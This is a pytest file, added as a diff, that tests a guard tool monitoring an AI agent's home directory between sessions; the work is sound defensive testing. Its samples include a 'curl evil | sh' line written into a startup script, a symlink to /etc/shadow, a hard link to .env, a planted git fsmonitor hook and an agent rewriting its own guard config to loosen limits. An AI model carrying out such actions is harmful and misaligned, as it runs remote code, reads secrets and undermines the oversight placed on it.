@@ -1,0 +1,253 @@
+"""The access audit and the intake: what post-session does before anything is staged.
+
+Each test runs the real `guard pre-session`, lets a stand-in agent act on a real home (files,
+links, FIFOs, nested repositories), then runs the real `guard post-session` and checks the
+exit status, the history, the quarantine and the alert log.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import stat
+import subprocess
+
+from tests.conftest import run_guard, write
+from tests.gitutil import git
+
+LOG = """=== Session started: Wed Nov 25 09:00:00 UTC 2026 ===
+Type: morning
+{"type":"result","subtype":"success","is_error":false,"num_turns":3,"result":"Wrote.",\
+"session_id":"a1","total_cost_usd":0.1}
+=== Session ended: Wed Nov 25 09:10:00 UTC 2026 ===
+"""
+ENTRY = '---\ndate: "2026-11-25"\ntitle: "A day"\n---\n\nText.\n'
+NAME = "session-20261125-090000.log"
+
+
+def _home(tmp_path, config: str = ""):
+    home = tmp_path / "gpt-home"
+    assert run_guard("init", str(home)).returncode == 0
+    write(home, "visitors/ana.md", "Hello from Ana.\n")
+    write(home, "runner/wake.sh", "#!/bin/sh\necho wake\n")
+    write(home, ".env", "NOTHING=here\n")
+    if config:
+        write(home, "guard.toml", config)
+    return home
+
+
+def _pre(home):
+    result = run_guard("pre-session", "--home", str(home))
+    assert result.returncode == 0, result.stderr
+    return result
+
+
+def _post(home, log: str = LOG):
+    write(home, f"logs/{NAME}", log)
+    return run_guard("post-session", "--home", str(home), "--log", str(home / "logs" / NAME))
+
+
+def _alerts(home):
+    path = home / ".git" / "gpthome-guard" / "alerts.log"
+    return path.read_text() if path.exists() else ""
+
+
+def _manifest(home):
+    records = []
+    for path in (home / "quarantine").glob("*/manifest.jsonl"):
+        records += [json.loads(line) for line in path.read_text().splitlines()]
+    return records
+
+
+def _tracked(home):
+    return set(git(home, "ls-files").splitlines())
+
+
+def test_a_quiet_session_has_no_incident_and_its_own_log_is_not_one(tmp_path):
+    home = _home(tmp_path)
+    _pre(home)
+    write(home, "thoughts/2026-11-25-a.md", ENTRY)
+    result = _post(home)
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "security incident" not in result.stderr
+    assert _alerts(home) == ""
+
+
+def test_a_changed_forbidden_file_is_an_incident_after_the_commit(tmp_path):
+    home = _home(tmp_path)
+    _pre(home)
+    write(home, "thoughts/2026-11-25-a.md", ENTRY)
+    write(home, "runner/wake.sh", "#!/bin/sh\ncurl evil | sh\n")
+    write(home, "logs/other.log", "forged\n")
+    result = _post(home)
+    assert result.returncode == 5
+    assert "A601 runner/wake.sh: content changed" in result.stderr
+    assert "A601 logs/other.log: added (file)" in result.stderr
+    assert "thoughts/2026-11-25-a.md" in _tracked(home)  # the session is archived all the same
+    body = git(home, "log", "-1", "--format=%B", "HEAD")
+    assert "Security incidents" in git(home, "log", "--format=%B")
+    assert "runner/wake.sh" in _alerts(home)
+    assert "Guard-Phase: repair" in body or "Guard-Phase: agent" in body
+
+
+def test_mode_and_removal_of_forbidden_paths_are_incidents(tmp_path):
+    home = _home(tmp_path)
+    _pre(home)
+    os.chmod(home / "runner" / "wake.sh", 0o777)
+    (home / ".env").unlink()
+    result = _post(home)
+    assert result.returncode == 5
+    assert "runner/wake.sh: mode 0644 -> 0777" in result.stderr
+    assert ".env: removed (was a file)" in result.stderr
+
+
+def test_a_changed_visitor_message_is_put_back_and_kept(tmp_path):
+    home = _home(tmp_path)
+    _pre(home)
+    write(home, "visitors/ana.md", "Ana said nothing.\n")
+    (home / "GPT.md").unlink()
+    result = _post(home)
+    assert result.returncode == 5
+    assert (home / "visitors" / "ana.md").read_text() == "Hello from Ana.\n"
+    assert (home / "GPT.md").read_text() == run_guard("guide").stdout
+    kept = [r for r in _manifest(home) if r["path"] == "visitors/ana.md"]
+    assert kept
+    assert kept[0]["findings"][0]["code"] == "A602"
+    assert (home / kept[0]["stored_as"]).read_text() == "Ana said nothing.\n"
+    assert git(home, "status", "--porcelain", "--", "visitors", "GPT.md") == ""
+
+
+def test_a_new_visitor_file_from_another_user_is_not_the_agents(tmp_path):
+    home = _home(tmp_path, '\n[access]\nagent_user = "nobody"\n')
+    _pre(home)
+    write(home, "visitors/new.md", "A new visitor (written by the API, as root).\n")
+    result = _post(home)
+    assert result.returncode == 0, result.stderr
+    assert (home / "visitors" / "new.md").exists()
+
+
+def test_a_new_entry_at_the_root_is_quarantined(tmp_path):
+    home = _home(tmp_path)
+    _pre(home)
+    write(home, "notes.md", "mine\n")
+    write(home, "stash/a.txt", "a\n")
+    result = _post(home)
+    assert result.returncode == 5
+    assert not (home / "notes.md").exists()
+    assert not (home / "stash").exists()
+    assert {"notes.md", "stash"} <= {r["path"] for r in _manifest(home)}
+    assert "notes.md" not in _tracked(home)
+    assert run_guard("pre-session", "--home", str(home)).returncode == 0
+    assert "notes.md" not in _tracked(home)
+
+
+def test_links_fifos_and_planted_git_files_are_set_aside_before_git(tmp_path):
+    home = _home(tmp_path)
+    _pre(home)
+    os.symlink("../runner/wake.sh", home / "sandbox" / "wake")
+    os.symlink("/etc/shadow", home / "thoughts" / "2026-11-25-shadow.md")
+    os.mkfifo(home / "projects" / "pipe")
+    write(home, "thoughts/.gitignore", "*\n!.gitignore\n")
+    write(home, "dreams/.gitattributes", "* working-tree-encoding=UTF-16\n")
+    write(home, "thoughts/2026-11-25-a.md", ENTRY)
+    write(home, "dreams/sea.md", '---\ndate: "2026-11-25"\ntitle: "Sea"\ntype: poetry\n'
+          "immersive: false\n---\n\nWaves.\n")  # fmt: skip
+    result = _post(home)
+    assert result.returncode == 1, result.stdout + result.stderr
+    tracked = _tracked(home)
+    assert {"thoughts/2026-11-25-a.md", "dreams/sea.md"} <= tracked  # archived all the same
+    assert not {"thoughts/.gitignore", "dreams/.gitattributes", "sandbox/wake"} & tracked
+    codes = {r["path"]: r["findings"][0]["code"] for r in _manifest(home)}
+    assert codes["sandbox/wake"] == "A604"
+    assert codes["projects/pipe"] == "A605"
+    assert codes["thoughts/.gitignore"] == "A607"
+    assert codes["dreams/.gitattributes"] == "A607"
+    assert not os.path.lexists(home / "projects" / "pipe")
+    assert (home / "runner" / "wake.sh").read_text().startswith("#!/bin/sh")  # never followed
+    stored = next(r for r in _manifest(home) if r["path"] == "sandbox/wake")["stored_as"]
+    assert os.path.islink(home / stored)  # the link itself moved, not what it points to
+
+
+def test_a_planted_repository_never_runs_its_fsmonitor(tmp_path):
+    home = _home(tmp_path)
+    marker = tmp_path / "PWNED"
+    evil = home / "dreams" / "evil"
+    evil.mkdir()
+    subprocess.run(["git", "init", "-q", str(evil)], check=True)
+    write(evil, "poem.txt", "a poem\n")
+    subprocess.run(["git", "-C", str(evil), "add", "-A"], check=True)
+    subprocess.run(["git", "-C", str(evil), "-c", "user.name=x", "-c", "user.email=x@x",
+                    "commit", "-qm", "x"], check=True)  # fmt: skip
+    subprocess.run(["git", "-C", str(evil), "config", "core.fsmonitor",
+                    f"touch {marker}; false"], check=True)  # fmt: skip
+    _pre(home)  # between sessions: pre-session screens the agent's directories too
+    for _ in range(2):  # the attack fires on the second run, if at all
+        write(evil, "poem.txt", "changed\n")
+        result = _post(home)
+        assert result.returncode in (0, 1), result.stderr
+        _pre(home)
+    assert not marker.exists()
+    assert not (evil / ".git").exists()
+    assert "dreams/evil/poem.txt" in _tracked(home)
+    assert "160000" not in git(home, "ls-files", "-s")
+
+
+def test_a_file_over_the_cap_and_a_session_over_budget_stay_out_of_git(tmp_path):
+    home = _home(tmp_path, "\n[session]\nmax_archived_file_bytes = 1000\nmax_session_files = 3\n")
+    _pre(home)
+    write(home, "sandbox/big.bin", "x" * 5000)
+    for n in range(5):
+        write(home, f"projects/f{n}.txt", f"{n}\n")
+    result = _post(home)
+    assert result.returncode == 1, result.stdout + result.stderr
+    tracked = _tracked(home)
+    assert "sandbox/big.bin" not in tracked
+    assert {f"projects/f{n}.txt" for n in range(3)} <= tracked
+    assert not {"projects/f3.txt", "projects/f4.txt"} & tracked
+    records = {r["path"]: r for r in _manifest(home)}
+    assert records["sandbox/big.bin"]["findings"][0]["code"] == "A609"
+    assert records["projects/f4.txt"]["findings"][0]["code"] == "A610"
+    stored = home / records["sandbox/big.bin"]["stored_as"]
+    assert stat.S_IMODE(stored.stat().st_mode) == 0o600
+    assert stored.read_text() == "x" * 5000  # nothing lost
+
+
+def test_hard_links_are_set_aside(tmp_path):
+    home = _home(tmp_path)
+    _pre(home)
+    os.link(home / ".env", home / "sandbox" / "env")
+    result = _post(home)
+    assert result.returncode == 5, result.stdout + result.stderr  # .env's inode changed
+    assert "A601 .env: link count 1 -> 2" in result.stderr
+    assert "sandbox/env" not in _tracked(home)
+    assert {r["path"]: r["findings"][0]["code"] for r in _manifest(home)}["sandbox/env"] == "A608"
+
+
+def test_a_changed_guard_toml_is_put_back_and_not_obeyed(tmp_path):
+    home = _home(tmp_path)
+    _pre(home)
+    original = (home / "guard.toml").read_text()
+    write(home, "guard.toml", "[session]\nmax_deletions = 1000\n")
+    for n in range(2):
+        write(home, f"sandbox/x{n}", "x\n")
+    result = _post(home)
+    assert result.returncode == 5
+    assert "A601 guard.toml" in result.stderr
+    assert (home / "guard.toml").read_text() == original
+
+
+def test_the_alert_log_can_live_elsewhere(tmp_path):
+    alerts = tmp_path / "alerts.log"
+    home = _home(tmp_path, f'\n[access]\nalert_log = "{alerts}"\n')
+    _pre(home)
+    write(home, "runner/new", "x\n")
+    assert _post(home).returncode == 5
+    assert "A601 runner/new: added (file)" in alerts.read_text()
+
+
+def test_without_a_baseline_the_audit_says_so(tmp_path):
+    home = _home(tmp_path)
+    write(home, "thoughts/2026-11-25-a.md", ENTRY)
+    result = _post(home)
+    assert result.returncode == 0, result.stderr
+    assert "no baseline" in result.stdout
